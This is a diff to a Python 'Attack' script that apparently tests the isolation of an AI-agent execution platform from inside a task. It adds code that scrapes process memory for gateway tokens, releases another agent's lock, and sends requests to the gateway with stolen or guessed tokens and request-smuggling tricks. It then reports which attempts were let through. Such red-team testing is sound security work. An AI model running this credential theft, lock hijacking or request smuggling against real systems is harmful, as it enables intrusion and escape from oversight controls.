@@ -25,7 +25,8 @@ from pathlib import Path
 from typing import Any
 
 JWT = re.compile(rb"eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{20,}")
-BEARER = re.compile(rb"Bearer ([A-Za-z0-9._~+/-]{16,})")
+#: A gateway token as it lies in memory: a Python string (``PyASCIIObject``) of 43 characters.
+BEARER = re.compile(rb"(?s)\x2b\0{7}.{16,24}?([A-Za-z0-9_-]{43})\0")
 
 PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
 SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
@@ -65,6 +66,7 @@ class Attack:
         #: By attempt: how often it was made and how often it was let through.
         self.attempts: dict[str, dict[str, int]] = {}
         self.allowed: list[str] = []
+        #: What may be a gateway token.
         self.bearers: set[str] = set()
 
     # --- searching ---------------------------------------------------------------------------------------------
@@ -77,6 +79,18 @@ class Attack:
             if is_jwt(match[0]):
                 self.found.append({"what": "task token", "where": where})
                 break
+
+    def collect_bearers(self, content: bytes) -> None:
+        """What looks like a gateway token in the task's own memory."""
+        for match in BEARER.finditer(content):
+            text = match[1].decode()
+            if (
+                len(set(text)) > 20
+                and re.search("[A-Z]", text)
+                and re.search("[a-z]", text)
+                and re.search("[0-9]", text)
+            ):
+                self.bearers.add(text)
 
     def tried(self, attempt: str, *, succeeded: bool, detail: str = "") -> None:
         counts = self.attempts.setdefault(attempt, {"tried": 0, "succeeded": 0})
@@ -229,7 +243,8 @@ class Attack:
                 self.use_lock(path)
 
     def use_lock(self, path: Path) -> None:
-        if "lock" not in path.name:
+        """Let go of the agent's lock in the place of who holds it."""
+        if path.name != "lock" or not str(path).startswith(self.orders["agent_directory"]):
             return
         with suppress(OSError), path.open("rb") as file:
             fcntl.flock(file, fcntl.LOCK_UN)
@@ -283,15 +298,25 @@ class Attack:
                     self.ask(f"port {port}", _request("GET", path, token), lambda port=port: _tcp(port))
 
     def attack_gateway(self, path: str) -> None:
-        for name, request in _tricks(self.orders, sorted(self.bearers)):
+        """Every trick, without a credential, with guesses, and with a gateway token that was stolen for us.
+
+        A task does not know its own; if it has found one after all, it is tried as well.
+        """
+        known = {self.orders["stolen_token"]}
+        for token in sorted(self.bearers):
+            self.ask("a guess", _request("GET", "/execution/health", token), lambda: _unix(path))
+            if self.answers.pop()["status"] == 200:
+                known.add(token)
+        for name, request in _tricks(self.orders, sorted(known)):
             self.ask(f"gateway {name}", request, lambda: _unix(path))
 
     def ask(self, name: str, request: bytes, connect: Callable[[], socket.socket]) -> None:
         answer = b""
+        began = time.monotonic()
         try:
             with connect() as connection:
                 connection.sendall(request)
-                while len(answer) < FILE_BYTES and (block := connection.recv(65536)):
+                while not _is_whole(answer) and (block := connection.recv(65536)):
                     answer += block
         except OSError:
             pass
@@ -302,13 +327,14 @@ class Attack:
                 "name": name,
                 "request": request[:300].decode("latin-1"),
                 "status": int(status[1]) if status else None,
+                "seconds": round(time.monotonic() - began, 3),
                 "answer": answer[:1500].decode("latin-1"),
             }
         )
 
     def report(self) -> None:
         names = ("found", "attempts", "allowed", "answers")
-        content = {name: getattr(self, name) for name in names} | {"bearers": len(self.bearers)}
+        content = {name: getattr(self, name) for name in names}
         partial = Path(self.orders["report"] + ".partial")
         partial.write_text(json.dumps(content))
         partial.rename(self.orders["report"])
@@ -339,7 +365,7 @@ def _tricks(orders: dict[str, Any], bearers: list[str]) -> Iterator[tuple[str, b
     chunked = {"Transfer-Encoding": "chunked"}
     smuggled = f"GET /{orders['deployment_id']}/agent/v1/claims HTTP/1.1\r\nHost: x\r\n\r\n".encode()
     for token in (None, "guess", "a" * 43, *bearers):
-        who = "with the task's token" if token in bearers else f"with {token}"
+        who = "with a token" if token in bearers else f"with {token}"
         for path in outside:
             for method in ("GET", "POST"):
                 yield f"{who}: outside", _request(method, path, token, body=b"{}" if method == "POST" else b"")
@@ -378,6 +404,14 @@ def _request(
         lines += [f"Content-Length: {len(body)}", "Content-Type: application/json"]
     lines += [f"{name}: {value}" for name, value in (headers or {}).items()]
     return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body
+
+
+def _is_whole(answer: bytes) -> bool:
+    head, blank, body = answer.partition(b"\r\n\r\n")
+    length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
+    if len(answer) > FILE_BYTES:
+        return True
+    return bool(blank) and (len(body) >= int(length[1]) if length else body.endswith(b"0\r\n\r\n"))
 
 
 def _unix(path: str) -> socket.socket:
@@ -421,6 +455,16 @@ def _walk(top: str, seen: set[tuple[int, int]]) -> Iterator[Path]:
                 yield path
 
 
+def gateway_tokens(memory: bytes) -> set[str]:
+    """What has the form of a gateway token: 43 characters in which all kinds occur."""
+    found = {match[1].decode() for match in BEARER.finditer(memory)}
+    return {
+        text
+        for text in found
+        if len(set(text)) > 20 and all(re.search(kind, text) for kind in ("[A-Z]", "[a-z]", "[0-9]"))
+    }
+
+
 def is_jwt(text: bytes) -> bool:
     try:
         head = text.split(b".")[0]
@@ -443,7 +487,7 @@ def main() -> None:
         attack.search(f"os.environ[{name!r}]", f"{name}={value}".encode())
     for where, content in incoming:
         attack.search(where, content)
-        attack.bearers |= {match[1].decode() for match in BEARER.finditer(content)}
+        attack.collect_bearers(content)
         attack.tried("own memory", succeeded=True)
     attack.attack_files()
     attack.attack_processes()
